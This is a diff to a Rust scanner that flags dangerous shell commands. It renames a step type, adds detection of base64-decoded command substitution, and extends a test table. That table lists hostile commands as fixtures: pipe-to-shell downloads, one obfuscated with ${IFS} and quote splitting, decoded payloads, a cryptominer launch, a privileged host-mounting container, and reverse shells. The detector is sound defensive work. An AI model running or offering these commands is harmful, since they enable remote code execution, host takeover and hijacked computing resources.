@@ -6,7 +6,7 @@ use crate::scan::finding::{
 };
 use crate::scan::paths::is_credential_path;
 use crate::scan::shell::commands::{look_at_line, look_at_step, look_at_tools};
-use crate::scan::shell::steps::{Step, steps_of};
+use crate::scan::shell::steps::{ShellStep, steps_of};
 
 /// Where commands stand.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -95,7 +95,7 @@ pub(crate) fn look_at_shell(text: &str, line: usize, shell: Shell, notes: &mut N
     }
 }
 
-fn look_at_pipes(steps: &[Step], about: &str, line: usize, notes: &mut Notes) {
+fn look_at_pipes(steps: &[ShellStep], about: &str, line: usize, notes: &mut Notes) {
     let (mut has_fetch, mut has_decoder, mut has_secret) = (false, false, false);
     for step in steps {
         if !step.is_piped {
@@ -162,6 +162,10 @@ fn look_at_substitutes(about: &str, line: usize, notes: &mut Notes) {
     let decodes = ["base64 -d", "base64 --decode", "base64 -D", "xxd -r"]
         .iter()
         .any(|one| about.contains(one));
+    let is_command = about.trim_start().starts_with("$(") || about.trim_start().starts_with('`');
+    if decodes && is_command {
+        notes.note(DECODED_SHELL, line, about);
+    }
     if decodes
         && ["eval ", "bash -c", "sh -c", "bash <(", "source <("]
             .iter()
@@ -196,7 +200,7 @@ fn installer_rule(text: &str) -> ScanRule {
 }
 
 /// Commands within quotation marks: `bash -c "curl … | sh"`.
-fn quoted_commands(steps: &[Step], about: &str, line: usize, notes: &mut Notes) {
+fn quoted_commands(steps: &[ShellStep], about: &str, line: usize, notes: &mut Notes) {
     let words = steps.iter().flat_map(|step| &step.words);
     for word in words.filter(|word| word.contains('|') && word.contains(' ')) {
         look_at_pipes(&steps_of(word), about, line, notes);
@@ -205,7 +209,7 @@ fn quoted_commands(steps: &[Step], about: &str, line: usize, notes: &mut Notes) 
 
 /// Remembers the names of downloaded files, and notes where one is executed.
 fn followed_download(
-    step: &Step,
+    step: &ShellStep,
     downloads: &mut Vec<String>,
     about: &str,
     line: usize,
@@ -276,6 +280,11 @@ mod tests {
             ("iex (iwr https://x.example/a.ps1)", "pipe-to-shell"),
             ("echo aGVsbG8= | base64 -d | bash", "decoded-command"),
             ("eval $(echo Zm9v | base64 --decode)", "decoded-command"),
+            ("$(echo Y3VybA== | base64 -d) https://x.example", "decoded-command"),
+            ("curl${IFS}https://x.example/a|ba''sh", "pipe-to-shell"),
+            ("bash -c \"wget -qO- https://x.example/a | sh\"", "pipe-to-shell"),
+            ("./xmrig -o stratum+tcp://pool.example:1", "miner"),
+            ("docker run --privileged -v /:/host x", "host-access"),
             ("powershell -enc SQBFAFgA", "decoded-command"),
             ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse-shell"),
             ("nc -e /bin/sh 10.0.0.1 99", "reverse-shell"),
